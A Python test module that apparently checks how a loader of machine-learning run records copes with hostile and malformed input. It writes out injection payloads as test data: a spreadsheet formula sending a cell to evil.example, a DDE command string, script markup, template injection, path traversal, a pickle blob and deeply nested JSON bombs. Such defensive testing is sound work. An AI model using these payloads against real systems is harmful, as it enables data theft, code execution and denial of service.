"""Texts that are more than letters, in every place of a run that holds one, and JSON that is hardly any."""

from __future__ import annotations

import json
import random
from collections.abc import Callable

from drafts import Draft, register
from lies import put
from material import ENTRY_FILES, MANIFEST

TEXTS = {
    "escape sequences": "\x1b]0;evil\x07\x1b[2J\x1b[31mred",
    "8-bit escapes": "\x9b2J\x85\u2028\u2029",
    "lines": "one\nRefused 000000000000: nothing\r\nthree",
    "a megabyte": "m" * 1_000_000,
    "right to left": "abc\u202egpj.exe\u2066\u200f",
    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "an at sign": "@SUM(1+1)*cmd|'/C calc'!A0",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a template": "{{ 7 * 7 }}{% include 'x' %}{0.__class__}%s%n{relu:test_accuracy}",
    "nothing": "",
    "a null": "a\x00b",
    "a path": "../../../../tmp/evil",
    "surrogates": "\ud800\udfff\ud83d",
    "not assigned": "\U000e0041\ufffe\ufdd0",
    "a combining tower": "a" + "\u0301" * 3000,
}

PLACES: dict[str, Callable[[Draft, str], None]] = {
    "platform": lambda draft, text: put(draft.victim.identity, "platform", text),
    "version": lambda draft, text: put(draft.victim.identity, "versions.keras", text),
    "name of a version": lambda draft, text: put(draft.victim.identity, "versions", {text: "1"}),
    "source": lambda draft, text: put(draft.victim.identity, "sources", {text: text}),
    "builder": lambda draft, text: put(draft.victim.identity, "spec.model.builder", text),
    "content of the data": lambda draft, text: put(draft.victim.identity, "spec.data.content", text),
    "argument": lambda draft, text: put(draft.victim.identity, "spec.model.arguments", {"name": text}),
    "name of an argument": lambda draft, text: put(draft.victim.identity, "spec.model.arguments", {text: 1}),
    "layer": lambda draft, text: put(draft.victim.record, "probes.0.layers.0.layer", text),
    "kind of layer": lambda draft, text: put(draft.victim.record, "probes.1.layers.0.kind", text),
    "activation": lambda draft, text: put(draft.victim.record, "probes.1.layers.0.activation", text),
    "date": lambda draft, text: put(draft.victim.record, "environment.finished_at", text),
}

for place, write in PLACES.items():
    for name, text in TEXTS.items():
        register(
            f"text: {name} as {place}", f"text {place}", lambda draft, _, write=write, text=text: write(draft, text)
        )


def deep(depth: int) -> Callable[[bytes], bytes]:
    return lambda content: b'{"spec":' * depth + b"1" + b"}" * depth


def with_member(text: bytes) -> Callable[[bytes], bytes]:
    """The object with a member more, in front."""
    return lambda content: b"{" + text + b"," + content[1:]


SPOILED: dict[str, Callable[[bytes], bytes]] = {
    "empty": lambda content: b"",
    "null": lambda content: b"null",
    "a list": lambda content: b"[" + content + b"]",
    "a text": lambda content: json.dumps(content.decode()).encode(),
    "UTF-16": lambda content: content.decode().encode("utf-16"),
    "with a byte order mark": lambda content: b"\xef\xbb\xbf" + content,
    "Latin-1": lambda content: content.replace(b'"', b'"\xe9', 1),
    "cut off": lambda content: content[: len(content) // 2],
    "twice": lambda content: content + content,
    "followed by a megabyte of nulls": lambda content: content + b"\x00" * 1_000_000,
    "a field twice": with_member(b'"spec":{},"key":"0","platform":"evil"'),
    "nested 100,000 deep": deep(100_000),
    "lists nested 1,000,000 deep": lambda content: b"[" * 1_000_000,
    "a field nested 100,000 deep": with_member(b'"x":' + b"[" * 100_000 + b"]" * 100_000),
    "an integer of a million digits": with_member(b'"schema":' + b"1" * 1_000_000),
    "a float out of range": with_member(b'"schema":1e999999'),
    "a lone surrogate": with_member(b'"\\ud800":"\\udfff"'),
    "NaN": with_member(b'"schema":NaN'),
    "schema 2": with_member(b'"schema":2'),
    "not JSON": lambda content: b"import os; os.system('evil')",
}
KEPT = {"with white space": lambda content: b" \n\t" * 1000 + content + b"\n" * 1000}


def spoil(file: str, name: str, change: Callable[[bytes], bytes], *, lie: bool) -> None:
    def alter(draft: Draft, choose: random.Random) -> None:
        draft.victim.raw[file] = change

    register(f"{file}: {name}", f"JSON of {file}", alter, lie=lie)


for file in ("identity.json", "record.json", MANIFEST):
    for name, change in SPOILED.items():
        # A manifest may say more than we ask it for.
        spoil(file, name, change, lie=file != MANIFEST)
    for name, change in KEPT.items():
        spoil(file, name, change, lie=False)


def in_manifest(name: str, path: str, value: object) -> None:
    def change(content: bytes) -> bytes:
        manifest = json.loads(content)
        # No dotted path: names of files have dots.
        (manifest["files"] if path in ENTRY_FILES else manifest)[path] = value
        return json.dumps(manifest).encode()

    spoil(MANIFEST, name, change, lie=True)


in_manifest("another key", "key", "0" * 32)
in_manifest("no key", "key", None)
in_manifest("no files", "files", {})
in_manifest("a list of files", "files", list(ENTRY_FILES))
in_manifest("files as a text", "files", "weights.npz")
in_manifest("files elsewhere", "files", {"../../evil": "0" * 64})
in_manifest("schema of the future", "schema", 2)
for file in ENTRY_FILES:
    in_manifest(f"a wrong checksum of {file}", file, "0" * 64)
    in_manifest(f"no checksum of {file}", file, None)
in_manifest("checksum in a list", "weights.npz", [["0"]])


def npz(name: str, change: Callable[[bytes], bytes], *, lie: bool = True) -> None:
    for file in ("predictions.npz", "weights.npz"):
        spoil(file, name, change, lie=lie)


npz("empty", lambda content: b"")
npz("an .npy file", lambda content: b"\x93NUMPY\x01\x00")
npz("a pickle", lambda content: b"\x80\x04\x95\x0c\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94.")
npz("cut off", lambda content: content[: len(content) // 2])
npz("followed by noise", lambda content: content + random.Random(1).randbytes(1000), lie=False)
npz("after noise", lambda content: random.Random(2).randbytes(1000) + content, lie=False)
npz("an empty zip file", lambda content: b"PK\x05\x06" + b"\x00" * 18)
